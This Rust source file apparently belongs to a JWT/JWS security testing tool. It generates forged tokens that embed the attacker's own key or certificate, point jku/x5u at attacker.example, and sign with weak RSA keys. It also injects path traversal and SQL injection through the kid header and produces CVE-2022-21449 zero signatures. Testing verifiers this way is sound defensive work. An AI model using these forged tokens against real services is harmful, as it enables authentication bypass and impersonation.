//! Keys that the token brings along or points at, and is signed with.

use super::{Attack, Family, Forge, appended, replaced, strange_key};
use crate::{
    Error, NewCertificate, SignatureAlgorithm,
    backend::{Backend, OpenSsl, Sign},
    base64url,
    key::failed,
};
use base64::{Engine, engine::general_purpose::STANDARD};
use openssl::{
    bn::BigNum,
    hash::MessageDigest,
    pkey::{PKey, Private},
    rsa::Rsa,
    sign::Signer,
};
use std::sync::LazyLock;

pub(super) fn all(forge: &Forge<'_>) -> Result<Vec<Attack>, Error> {
    let mut attacks = embedded(forge)?;
    attacks.extend(weak(forge)?);
    attacks.extend(pointed_at(forge)?);
    Ok(attacks)
}

/// A sound key of the attacker's own.
fn embedded(forge: &Forge<'_>) -> Result<Vec<Attack>, Error> {
    let own = strange_key(forge.algorithm())?;
    let signer = OpenSsl.signing(&own, forge.algorithm())?;
    let (id, jwk) = (own.public().thumbprint(), own.public().to_jwk());
    let certificate = NewCertificate::new("attacker", forge.target.now, 1).self_signed(&own)?;
    let x5c = format!("[\"{}\"]", STANDARD.encode(certificate.to_der()));
    let called = |json: &str| replaced(json, "kid", Some(&format!("\"{id}\"")));
    let with = |name: &str, value: &str| replaced(&forge.header, name, Some(value));
    let headers = [
        ("brings its key", with("jwk", &jwk)),
        ("brings its key, and calls it by its thumbprint", called(&with("jwk", &jwk))),
        ("brings a set of its key", with("jwk", &format!("{{\"keys\":[{jwk}]}}"))),
        ("brings its certificate", with("x5c", &x5c)),
        ("brings its certificate as a string", with("x5c", &x5c.replace(['[', ']'], ""))),
        ("names its certificate", with("x5t#S256", &format!("\"{}\"", certificate.thumbprint()))),
        ("brings and names its certificate", {
            let named = format!("\"x5t#S256\":\"{}\"", certificate.thumbprint());
            appended(&with("x5c", &x5c), &named)
        }),
        ("calls a strange key by its thumbprint", called(&forge.header)),
        ("points at its key", with("jku", "\"https://attacker.example/jwks.json\"")),
        ("points at its certificate", with("x5u", "\"https://attacker.example/chain.pem\"")),
        ("points at its key by a data URL", {
            let set = base64url::encode(format!("{{\"keys\":[{jwk}]}}"));
            with("jku", &format!("\"data:application/json;base64,{set}\""))
        }),
        ("is signed with a strange key", forge.header.clone()),
    ];
    let mut attacks = Vec::new();
    for (name, json) in headers {
        attacks.push(signed_by(forge, name, &json, forge.target.payload, &*signer)?);
    }
    // A token within a token: the inner one is good, and the outer one is not its signer's.
    let nested = replaced(&forge.header, "cty", Some("\"JWT\""));
    attacks.push(signed_by(forge, "wraps the good one", &nested, &forge.genuine, &*signer)?);
    Ok(attacks)
}

fn signed_by(
    forge: &Forge<'_>,
    name: &str,
    json: &str,
    payload: &[u8],
    signer: &dyn Sign,
) -> Result<Attack, Error> {
    let signature = signer.sign(&forge.signed(json.as_bytes(), payload))?;
    let token = forge.assemble(json.as_bytes(), payload, &signature);
    let mut attack = forge.attack(Family::Signature, format!("token that {name}"), token);
    if forge.target.profile.content != crate::Content::Attached {
        attack.payload = payload.to_vec();
    }
    Ok(attack)
}

/// The signature of these bytes.
type SignBy<'a> = dyn Fn(&[u8]) -> Result<Vec<u8>, Error> + 'a;

/// Names and keys.
type Weak = Vec<(&'static str, PKey<Private>)>;

/// Made once: it does not matter who has them, and making them takes time.
static WEAK: LazyLock<Result<Weak, Error>> = LazyLock::new(|| {
    [("of 512 bits", 512, 65_537), ("of 1024 bits", 1024, 65_537), ("with exponent 3", 2048, 3)]
        .into_iter()
        .map(|(name, bits, exponent)| {
            let key = BigNum::from_u32(exponent).and_then(|exponent| Rsa::generate_with_e(bits, &exponent));
            Ok((name, key.and_then(PKey::from_rsa).map_err(failed)?))
        })
        .collect()
});

/// RSA keys that anybody can break, brought along: of 512 and 1024 bits, with the exponents 1 and 3.
fn weak(forge: &Forge<'_>) -> Result<Vec<Attack>, Error> {
    let mut attacks = Vec::new();
    let mut add = |name: &str, modulus: &[u8], exponent: &[u8], sign: &SignBy<'_>| {
        let (n, e) = (base64url::encode(modulus), base64url::encode(exponent));
        let jwk = format!("{{\"kty\":\"RSA\",\"n\":\"{n}\",\"e\":\"{e}\"}}");
        let with = replaced(&forge.header, "jwk", Some(&jwk));
        let json = replaced(&with, "alg", Some("\"RS256\""));
        let signature = sign(&forge.signed(json.as_bytes(), forge.target.payload))?;
        let token = forge.assemble(json.as_bytes(), forge.target.payload, &signature);
        attacks.push(forge.attack(Family::Signature, format!("token that brings an RSA key {name}"), token));
        Ok::<(), Error>(())
    };
    for (name, key) in WEAK.as_ref().map_err(|error| *error)? {
        let rsa = key.rsa().map_err(failed)?;
        add(name, &rsa.n().to_vec(), &rsa.e().to_vec(), &|signed| rs256(key, signed))?;
    }
    // With the exponent 1, a signature is its own padded digest: no private key is needed.
    add("with exponent 1", &[0xff; 256], &[1], &|signed| Ok(padded(&openssl::sha::sha256(signed))))?;
    Ok(attacks)
}

fn rs256(key: &PKey<Private>, signed: &[u8]) -> Result<Vec<u8>, Error> {
    let signer = Signer::new(MessageDigest::sha256(), key);
    signer.and_then(|mut signer| signer.sign_oneshot_to_vec(signed)).map_err(failed)
}

/// EMSA-PKCS1-v1_5 for 2,048 bits and SHA-256 (RFC 8017, 9.2).
fn padded(digest: &[u8; 32]) -> Vec<u8> {
    const SHA256: [u8; 19] = [
        0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00,
        0x04, 0x20,
    ];
    [&[0, 1][..], &[0xff; 256 - 3 - 19 - 32], &[0], &SHA256, digest].concat()
}

/// A `kid` that leads a careless lookup to something whose content everybody knows, which is then the HMAC's secret.
fn pointed_at(forge: &Forge<'_>) -> Result<Vec<Attack>, Error> {
    let mut attacks = Vec::new();
    for (id, secret) in [
        ("/dev/null", &[0][..]),
        ("../../../../../../dev/null", &[0]),
        ("file:///dev/null", &[0]),
        ("/proc/sys/kernel/randomize_va_space", b"2"),
        ("/proc/sys/kernel/randomize_va_space", b"2\n"),
        ("x' UNION SELECT 'secret' -- ", b"secret"),
        ("x' UNION SELECT NULL -- ", &[0]),
        ("\\\" OR \\\"\\\"=\\\"", &[0]),
        ("constructor", b"function Object() { [native code] }"),
        ("__proto__", b"[object Object]"),
        ("toString", b"undefined"),
        ("unknown", b"null"),
        ("unknown", b"undefined"),
        ("unknown", b"None"),
        ("unknown", &[0]),
    ] {
        for alg in ["HS256", forge.algorithm().name()] {
            let json = replaced(&forge.header, "kid", Some(&format!("\"{id}\"")));
            let json = replaced(&json, "alg", Some(&format!("\"{alg}\"")));
            let signed = forge.signed(json.as_bytes(), forge.target.payload);
            let key = PKey::hmac(secret).map_err(failed)?;
            let mac = Signer::new(MessageDigest::sha256(), &key)
                .and_then(|mut signer| signer.sign_oneshot_to_vec(&signed));
            let token = forge.assemble(json.as_bytes(), forge.target.payload, &mac.map_err(failed)?);
            let told = String::from_utf8_lossy(secret).escape_default().to_string();
            let name = format!("token that is called {alg}, points at {id} and is an HMAC under \"{told}\"");
            attacks.push(forge.attack(Family::Signature, name, token));
        }
    }
    if forge.algorithm() == SignatureAlgorithm::Es256 {
        // Psychic signatures (CVE-2022-21449), for a key that nobody has.
        for id in ["unknown", "attacker"] {
            let json = replaced(&forge.header, "kid", Some(&format!("\"{id}\"")));
            let token = forge.assemble(json.as_bytes(), forge.target.payload, &[0; 64]);
            attacks.push(forge.attack(
                Family::Signature,
                format!("token of {id} whose R and S are zero"),
                token,
            ));
        }
    }
    Ok(attacks)
}
